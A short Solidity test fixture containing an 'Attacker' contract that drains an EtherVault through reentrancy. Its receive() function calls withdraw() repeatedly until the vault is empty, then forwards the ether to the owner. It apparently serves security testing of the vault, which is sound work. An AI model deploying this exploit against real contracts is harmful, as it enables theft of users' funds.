// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IEtherVault {
    function deposit() external payable;
    function withdraw() external;
}

/// Test fixture: re-enters EtherVault.withdraw from its receive() until the vault is empty.
contract Attacker {
    IEtherVault public immutable vault;
    address public immutable owner;

    constructor(IEtherVault target) {
        vault = target;
        owner = msg.sender;
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
        payable(owner).transfer(address(this).balance);
    }

    receive() external payable {
        if (address(vault).balance >= msg.value && msg.value > 0) vault.withdraw();
    }
}
